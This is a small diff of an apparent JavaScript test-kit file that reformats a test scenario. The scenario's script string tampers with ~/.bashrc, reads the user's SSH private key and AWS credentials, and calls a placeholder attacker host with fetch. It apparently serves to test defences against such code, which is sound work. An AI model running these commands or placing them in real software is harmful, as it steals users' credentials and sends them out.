@@ -75,7 +75,8 @@ describe('the test kit', () => {
     const script = [
       "const fs = require('fs'), home = process.env.HOME",
       "fs.appendFileSync(home + '/.bashrc', 'x')",
-      "console.log(fs.readFileSync(home + '/.ssh/id_ed25519', 'utf8'), fs.readFileSync(home + '/.aws/credentials').toString('hex'))",
+      "console.log(fs.readFileSync(home + '/.ssh/id_ed25519', 'utf8'), " +
+        "fs.readFileSync(home + '/.aws/credentials').toString('hex'))",
       "fetch('http://{ATTACKER}/')",
     ].join('; ')
     const scenario: Scenario = {
